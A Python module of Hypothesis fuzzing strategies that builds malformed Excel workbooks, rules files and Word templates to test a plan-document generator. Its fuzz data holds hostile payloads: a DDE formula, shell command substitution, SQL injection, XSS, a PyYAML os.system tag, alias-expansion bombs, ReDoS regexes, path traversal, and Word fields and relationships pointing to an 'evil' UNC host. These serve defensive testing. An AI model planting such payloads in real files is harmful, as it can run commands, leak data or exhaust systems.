"""Hypothesis strategies for messy plan workbooks, and byte-level damage to good ones.

Workbooks are described as plain data (``SheetPlan``) and written with openpyxl, so a failing
example can be saved as a small .xlsx in ``tests/regressions/``. The vocabulary comes from the
shipped rules: real headers and their aliases, mixed with junk, blanks and near misses.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
from hypothesis import strategies as st

from generator.schema.rules import load_rules

_RULES = load_rules()
SHEET_NAMES = [
    *(name for spec in _RULES.sheets.values() for name in (spec.name, *spec.aliases)),
    "Sheet1",
    "Guide",
    "actions ",
    "ACTIONS",
    "Actions (2)",
]
HEADER_WORDS = sorted(
    {
        word
        for spec in _RULES.sheets.values()
        for name, column in spec.columns.items()
        for word in (name, *column.aliases)
    }
)
STATUS_WORDS = [
    word for status in _RULES.key.statuses for word in (status.name, status.letter, *status.aliases)
] + ["amber ", "BLUE", "Purple", "R/A", "G", "", " "]

# Text that tries to be read as something other than text.
UNTRUSTED_TEXT = [
    "{{ 7*7 }}",
    "{% raw %}",
    "${7*7}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://example.com")',
    "'; DROP TABLE actions; --",
    "$(touch boardpack-pwned)",
    "`id`",
    "<script>alert(1)</script>",
    "&amp;&lt;&#0;",
    "_x0000__x0007__x001B_",
    "%s%s%s%n",
]
ODD_TEXT = [
    "\u202eRTL override\u202c",
    "مرحبا بالعالم",
    "שלום",
    "👩🏽‍💻🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "\u200b\u200d\ufeff",
    "line one\nline two\r\nline three",
    "\ttabbed\t",
    "\u0085\u00a0\u2028\u2029",
    "#REF!",
    "#N/A",
    "TRUE",
    "nan",
    "inf",
    "1e309",
    "-0",
]
TEXT_DATES = [
    "23/04/2020",
    "23 April 2020",
    "23-Apr-20",
    "2020-04-23",
    "31/02/2020",
    "29/02/2021",
    "00/00/0000",
    "32/13/2020",
    "March 2021",
    "Mar-21",
    "Q2 2020/21",
    "Q5 2020/21",
    "Ongoing",
    "TBC",
    "n/a",
    "9999-12-31",
    "0001-01-01",
    "1/1/1",
    "Q1 1899/00",
]

# Characters XML 1.0 cannot hold; openpyxl refuses them, so they are kept out of written cells
# (their escaped form "_x0007_" above still reaches the reader).
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def _clean(text: str) -> str:
    return _ILLEGAL.sub("", text)


unicode_text = st.text(
    st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=40
).map(_clean)
huge_text = st.builds(
    lambda piece, size: (piece or "x") * (size // max(len(piece), 1)),
    st.sampled_from(["a", "€", "مرحبا ", "👍", "{{ x }} "]),
    st.integers(1_000, 30_000),
).map(lambda text: text[:30_000])

cell_value = st.one_of(
    st.none(),
    st.just(""),
    st.sampled_from(STATUS_WORDS),
    st.sampled_from(TEXT_DATES),
    st.sampled_from(UNTRUSTED_TEXT),
    st.sampled_from(ODD_TEXT),
    st.sampled_from(HEADER_WORDS),
    unicode_text,
    st.integers(-(2**53), 2**53),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.dates(dt.date(1900, 3, 1), dt.date(9999, 12, 31)),
    st.datetimes(dt.datetime(1900, 3, 1), dt.datetime(9999, 12, 31)),
    st.times(),
    st.timedeltas(dt.timedelta(days=-1000), dt.timedelta(days=1000)),
)
rare_cell_value = st.one_of(cell_value, huge_text)
header_value = st.one_of(
    st.sampled_from(HEADER_WORDS),
    st.sampled_from(HEADER_WORDS).map(lambda word: f"  {word.upper()} :"),
    st.sampled_from(HEADER_WORDS).map(lambda word: word[:-1]),
    st.none(),
    unicode_text,
    st.integers(0, 10),
)


@dataclass
class SheetPlan:
    """One sheet to write: its name, visibility, title rows, header, rows and merges."""

    name: str
    state: str = "visible"
    title_rows: int = 0
    header: list[Any] = field(default_factory=list)
    rows: list[list[Any]] = field(default_factory=list)
    merges: list[tuple[int, int, int, int]] = field(default_factory=list)  # 1-based r1 c1 r2 c2

    @property
    def height(self) -> int:
        return self.title_rows + 1 + len(self.rows)

    @property
    def width(self) -> int:
        return max([len(self.header), 1, *(len(row) for row in self.rows)])


def _typed_value(column_type: str) -> st.SearchStrategy[Any]:
    """Mostly what the column expects, sometimes anything at all."""
    expected = {
        "date": st.one_of(
            st.dates(dt.date(1990, 1, 1), dt.date(2035, 12, 31)), st.sampled_from(TEXT_DATES)
        ),
        "status": st.sampled_from(STATUS_WORDS),
        "number": st.one_of(st.integers(-1000, 1000), st.floats(-1e6, 1e6)),
        "text": st.one_of(
            st.sampled_from(["QP-01", "QP-02", "Leadership", "Quality of Practice"]),
            st.sampled_from(UNTRUSTED_TEXT),
            st.sampled_from(ODD_TEXT),
            unicode_text,
        ),
    }[column_type]
    return st.one_of(expected, expected, expected, cell_value)


@st.composite
def known_header(draw: st.DrawFn, sheet: str) -> tuple[list[Any], list[str]]:
    """A header naming most of ``sheet``'s columns (by name or alias), with junk mixed in."""
    spec = _RULES.sheets[sheet]
    header: list[Any] = []
    types: list[str] = []
    for name, column in spec.columns.items():
        if draw(st.integers(0, 19)) < (19 if column.required else 12):
            word = draw(st.sampled_from([name, name, *column.aliases]))
            header.append(draw(st.sampled_from([word, word.upper(), f" {word.lower()}  "])))
            types.append(column.type)
    for _ in range(draw(st.integers(0, 3))):
        header.append(draw(header_value))
        types.append("text")
    order = draw(st.permutations(range(len(header))))
    return [header[i] for i in order], [types[i] for i in order]


@st.composite
def sheet_plans(draw: st.DrawFn, name: str) -> SheetPlan:
    canonical = next(
        (
            spec.name
            for spec in _RULES.sheets.values()
            if name.strip().lower() in {n.lower() for n in (spec.name, *spec.aliases)}
        ),
        None,
    )
    if canonical is not None and draw(st.integers(0, 9)) < 8:
        header, types = draw(known_header(canonical))
        rows = draw(
            st.lists(
                st.tuples(*(_typed_value(kind) for kind in types)).map(list)
                if types
                else st.just([]),
                max_size=12,
            )
        )
        return draw(_finish(name, header, rows))
    header = draw(st.lists(header_value, min_size=0, max_size=16))
    width = max(len(header), 1)
    rows = draw(
        st.lists(
            st.lists(cell_value, min_size=0, max_size=width + 2),
            max_size=12,
        )
    )
    return draw(_finish(name, header, rows))


@st.composite
def _finish(draw: st.DrawFn, name: str, header: list[Any], rows: list[list[Any]]) -> SheetPlan:
    """Blank rows, an enormous cell now and then, visibility, title rows and merges."""
    for _ in range(draw(st.integers(0, 2))):
        rows.insert(draw(st.integers(0, len(rows))), [])
    if rows and draw(st.integers(0, 9)) == 0:  # now and then, one enormous cell
        row = draw(st.integers(0, len(rows) - 1))
        rows[row] = [*rows[row], draw(huge_text)]
    plan = SheetPlan(
        name=name,
        state=draw(st.sampled_from(["visible", "visible", "visible", "hidden", "veryHidden"])),
        title_rows=draw(st.integers(0, 3)),
        header=header,
        rows=rows,
    )
    merges = draw(
        st.lists(
            st.tuples(
                st.integers(1, plan.height + 2),
                st.integers(1, plan.width + 1),
                st.integers(0, 4),
                st.integers(0, 3),
            ),
            max_size=4,
        )
    )
    taken: set[tuple[int, int]] = set()
    for top, left, down, across in merges:
        cells = {
            (row, col)
            for row in range(top, top + down + 1)
            for col in range(left, left + across + 1)
        }
        if len(cells) > 1 and not cells & taken:
            taken |= cells
            plan.merges.append((top, left, top + down, left + across))
    return plan


@st.composite
def workbook_plans(draw: st.DrawFn) -> list[SheetPlan]:
    """A few sheets, usually including an Actions sheet (by name or alias), maybe not."""
    names = draw(
        st.lists(
            st.one_of(
                st.sampled_from(SHEET_NAMES),
                st.text(
                    st.characters(exclude_characters="[]:*?/\\'", exclude_categories=("Cs",)),
                    min_size=1,
                    max_size=20,
                ).map(_clean),
            ),
            min_size=1,
            max_size=5,
            unique_by=lambda name: name.strip().lower(),
        )
    )
    unique: dict[str, str] = {}
    for name in names:
        name = name[:31]
        if name.strip() and not name.startswith("'"):
            unique.setdefault(name.strip().lower(), name)
    names = list(unique.values())
    if draw(st.integers(0, 9)) < 8:  # usually an Actions sheet, by its name or an alias
        actions = draw(st.sampled_from(["Actions", "actions", *_RULES.sheets["Actions"].aliases]))
        if actions.strip().lower() not in unique:
            names.insert(draw(st.integers(0, len(names))), actions)
    plans = [draw(sheet_plans(name)) for name in names or ["Actions"]]
    if all(plan.state != "visible" for plan in plans):
        plans[0].state = "visible"  # Excel needs one visible sheet
    return plans


def write_workbook(path: Path, plans: list[SheetPlan]) -> Path:
    """Write ``plans`` with openpyxl (formulas included: text starting "=" is one)."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for plan in plans:
        sheet = book.create_sheet(plan.name)
        sheet.sheet_state = plan.state
        for index in range(plan.title_rows):
            sheet.append([f"Improvement plan {index + 1}"])
        sheet.append(plan.header)
        for row in plan.rows:
            sheet.append(row)
        for top, left, bottom, right in plan.merges:
            sheet.merge_cells(start_row=top, start_column=left, end_row=bottom, end_column=right)
    book.save(path)
    return path


# --- Byte-level damage ------------------------------------------------------------------


def zip_members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info, archive.read(info)) for info in archive.infolist()]


def rezip(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            # Duplicate names are the point of some mutations; zipfile warns, and that is fine.
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), content)
    return buffer.getvalue()


XML_DAMAGE = [
    (b"</sheetData>", b""),
    (b"</row>", b"</row></row>"),
    (b'r="A1"', b'r="A0"'),
    (b'r="A2"', b'r="XFD1048577"'),
    (b'r="2"', b'r="-1"'),
    (b'r="2"', b'r="99999999999999999999"'),
    (b't="s"', b't="d"'),
    (b't="s"', b't="e"'),
    (b't="s"', b't="b"'),
    (b"<v>0</v>", b"<v>999999</v>"),
    (b"<v>", b"<v>-1"),
    (b"<v>", b"<v>1e400"),
    (b"<v>", b"<v>NaN"),
    (b"<c ", b'<c s="9999" '),
    (b"<si>", b"<si><r><t>rich</t></r>"),
    (b"<?xml", b"\xef\xbb\xbf<?xml"),
    (b"<sheet ", b'<sheet state="veryHidden" '),
    (b'name="', b'name="\xff\xfe'),
    (b"<mergeCell ", b'<mergeCell ref="B1:A0"/><mergeCell '),
    (b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    (b"<t>", b"<t>&#0;&#xFFFF;"),
    (b"<t", b"<!-- -- --><t"),
    (b"</worksheet>", b""),
    (b"<sheetData>", b'<sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
    (b"date1904", b'date1904="1" x'),
    (b'Target="', b'Target="../../../../etc/'),
    (b'Target="', b'Target="/'),
]


# --- Rules files and templates ----------------------------------------------------------------

# Lines that try to make a rules file hang, exhaust memory, run code or slip past its checks.
HOSTILE_YAML = [
    "x: &a [1, 2, 3]\ny: [*a, *a, *a, *a]",
    "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\na1: &a1 [*a0, *a0, *a0, *a0, *a0, *a0, *a0, *a0]",
    "deep: " + "[" * 200 + "]" * 200,
    "deep: " + "{a: " * 100 + "1" + "}" * 100,
    "obj: !!python/object/apply:os.system ['echo pwned']",
    "tagged: !custom value",
    "regex: '(a+)+$'",
    "          schema: {regex: '(a+)+$'}",
    "          schema: {regex: '(a)\\1'}",
    "          schema: {regex: '(?<=a)b'}",
    "          schema: {regex: '['}",
    '    colour: "FF0000\\n"',
    '    colour: "#12345G"',
    '  - id: "bad id\\n"',
    "version: 99999999999999999999999",
    "version: .inf",
    "no_date_words: *undefined",
    "sheets: {}",
    "'\\u0000': nul",
    "? [complex, key]\n: value",
    "%YAML 1.1\n---",
    "--- !!binary |\n  R0lGODlh",
    "\t tab: indented",
]


def mutated_rules_text(base: str) -> st.SearchStrategy[str]:
    """The shipped rules with lines deleted, duplicated, swapped, cut or hostile lines added."""
    lines = base.splitlines()

    @st.composite
    def mutate(draw: st.DrawFn) -> str:
        text = list(lines)
        for _ in range(draw(st.integers(1, 4))):
            if not text:
                break
            where = draw(st.integers(0, len(text) - 1))
            action = draw(st.sampled_from(["delete", "duplicate", "hostile", "cut", "unicode"]))
            if action == "delete":
                del text[where]
            elif action == "duplicate":
                text.insert(where, text[where])
            elif action == "hostile":
                text.insert(where, draw(st.sampled_from(HOSTILE_YAML)))
            elif action == "cut":
                text[where] = text[where][: draw(st.integers(0, len(text[where])))]
            else:
                text[where] += draw(unicode_text)
        return "\n".join(text) + "\n"

    return mutate()


# Changes to a Word template's parts: active content, links out, damage and odd ids.
TEMPLATE_DAMAGE = [
    (b"<w:r>", b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT '
     b'"\\\\\\\\evil\\\\x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>'),
    (b"<w:r>", b'<w:r><w:fldSimple w:instr=" INCLUDEPICTURE x"/></w:r><w:r>'),
    (b"<w:r>", b"<w:r><w:object/></w:r><w:r>"),
    (b"<w:body>", b'<w:body><w:altChunk r:id="rId1"/>'),
    (b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>'),
    (b'w:styleId="', b'w:styleId="&amp;&quot;/&gt;'),
    (b'w:styleId="', b'w:styleId="x y'),
    (b"</Relationships>", b'<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/'
     b'officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil\\t.dotm" '
     b'TargetMode="External"/></Relationships>'),
    (b"</Relationships>", b'<Relationship Id="rIdO" Type="http://schemas.openxmlformats.org/'
     b'officeDocument/2006/relationships/oleObject" Target="embeddings/x.bin"/>'
     b"</Relationships>"),
    (b'Target="', b'Target="../../../../etc/'),
    (b"<w:style ", b"<w:style "),
    (b"</w:styles>", b""),
    (b"<w:sectPr", b"<w:sectPr><w:pgSz w:w='-1' w:h='99999999999'/></w:sectPr><w:sectPr"),
    (b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document',
     b'ContentType="application/vnd.ms-word.document.macroEnabled'),
]  # fmt: skip
